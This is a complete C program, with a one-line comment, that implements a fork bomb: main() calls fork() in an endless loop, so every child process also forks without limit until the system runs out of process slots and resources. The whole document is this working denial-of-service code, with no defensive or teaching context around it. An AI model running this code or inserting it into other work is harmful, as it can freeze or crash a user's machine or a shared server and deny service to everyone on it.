/* Forks without end; every child does the same. */
#include <unistd.h>
int main(void) { for (;;) fork(); }
